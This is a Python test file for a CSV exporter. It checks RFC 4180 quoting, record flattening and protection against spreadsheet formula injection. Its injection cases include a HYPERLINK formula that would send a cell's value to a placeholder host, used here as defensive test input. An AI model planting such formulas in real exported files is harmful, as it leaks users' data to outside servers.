"""CSV: what RFC 4180 asks for, and nothing that a spreadsheet would run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from node.cli.exits import CommandError, Exit
from node.cli.sheets import Sheet, emit_sheet, render_csv, sheet_of_members

TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12)


def one(value: object) -> str:
    """Return how a single cell is written, and read back."""
    ((cell,),) = list(csv.reader(io.StringIO(render_csv(Sheet(head=(), rows=[[value]])))))[1:]
    return cell


def test_lines_end_by_cr_and_lf_and_quotes_are_doubled() -> None:
    sheet = Sheet(head=("a", "b"), rows=[('say "no"', "x,y"), ("two\nlines", None), (7, "")])

    assert render_csv(sheet) == 'a,b\r\n"say ""no""","x,y"\r\n"two\nlines",\r\n7,\r\n'


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("http://x/"&A1)',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1+1",
        "-",
        "+5",
    ],
)
def test_no_cell_is_a_formula(formula: str) -> None:
    assert one(formula) == f"'{formula}"


@pytest.mark.parametrize(
    "text", ["-5.25", "-0", "17", "98.3815", "a=b", "MTB-3M", "", "2026-11-26"]
)
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert one(text) == text


def test_record_of_records_is_a_row_for_each_member() -> None:
    record = {
        "asset": "PIB",
        "terms": {"rate": {"ppm": 7}, "whole": True, "none": None, "empty": {}},
        "places": [{"account": "a"}, {"account": "b"}],
        "days": [1, False],
        "nothing": [],
    }

    assert list(sheet_of_members(record).rows) == [
        ("asset", "PIB"),
        ("terms.rate.ppm", 7),
        ("terms.whole", "yes"),
        ("terms.none", None),
        ("terms.empty", None),
        ("places.1.account", "a"),
        ("places.2.account", "b"),
        ("days", "1, no"),
        ("nothing", ""),
    ]


@given(st.lists(st.lists(TEXT, min_size=2, max_size=2), max_size=4))
def test_what_is_written_is_read_back_with_at_most_an_apostrophe(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(render_csv(Sheet(head=("a", "b"), rows=rows)), newline="")))

    assert [[cell.removeprefix("'") for cell in row] for row in read[1:]] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not any(cell.lstrip(" ")[:1] in set("=+@") for row in read for cell in row)


def test_two_forms_at_once_are_refused() -> None:
    with pytest.raises(CommandError, match="--json and --csv") as refused:
        emit_sheet({}, "", Sheet(head=(), rows=()), as_json=True, as_csv=True)
    assert refused.value.code == Exit.USAGE
